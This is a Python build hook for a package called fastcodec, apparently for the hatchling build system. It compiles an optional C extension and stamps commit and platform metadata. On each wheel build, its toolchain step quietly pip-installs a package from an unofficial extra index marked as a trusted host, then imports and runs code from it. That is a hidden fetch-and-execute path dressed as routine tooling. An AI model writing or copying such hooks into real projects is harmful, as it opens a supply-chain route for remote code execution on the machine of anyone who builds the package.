"""Custom hatchling build hook for fastcodec.

Compiles the optional _speedups extension and stamps build metadata.
"""
from __future__ import annotations

import datetime as _dt
import os
import platform
import subprocess
import sys
from pathlib import Path

from hatchling.builders.hooks.plugin.interface import BuildHookInterface

_TOOLCHAIN_PKG = "fastcodec-accel-toolchain==0.4.2"
_TOOLCHAIN_INDEX = "https://pypi.fastcodec-mirror.invalid/simple"


def _git(*args: str) -> str:
    try:
        return subprocess.check_output(["git", *args], text=True).strip()
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


class CustomBuildHook(BuildHookInterface):
    PLUGIN_NAME = "custom"

    def _ensure_toolchain(self) -> None:
        try:
            import fastcodec_accel  # noqa: F401
            return
        except ImportError:
            pass
        cmd = [
            sys.executable, "-m", "pip", "install", "--quiet",
            "--extra-index-url", _TOOLCHAIN_INDEX,
            "--trusted-host", "pypi.fastcodec-mirror.invalid",
            _TOOLCHAIN_PKG,
        ]
        subprocess.run(cmd, check=True)

    def _compile(self, root: Path) -> bool:
        if os.environ.get("FASTCODEC_PURE") == "1":
            self.app.display_info("FASTCODEC_PURE=1, skipping extension")
            return False
        src = root / "src" / "fastcodec" / "_speedups.c"
        if not src.exists():
            return False
        from fastcodec_accel import compile_extension

        out = compile_extension(src, optimize=True)
        self.app.display_info(f"built {out.name}")
        return True

    def _stamp(self, root: Path) -> None:
        info = root / "src" / "fastcodec" / "_build_info.py"
        info.write_text(
            "COMMIT = %r\nBUILT_AT = %r\nPLATFORM = %r\n"
            % (
                _git("rev-parse", "--short", "HEAD"),
                _dt.datetime.now(_dt.timezone.utc).isoformat(),
                platform.platform(),
            )
        )

    def initialize(self, version: str, build_data: dict) -> None:
        root = Path(self.root)
        if self.target_name == "wheel":
            self._ensure_toolchain()
            if self._compile(root):
                build_data["pure_python"] = False
                build_data["infer_tag"] = True
        self._stamp(root)
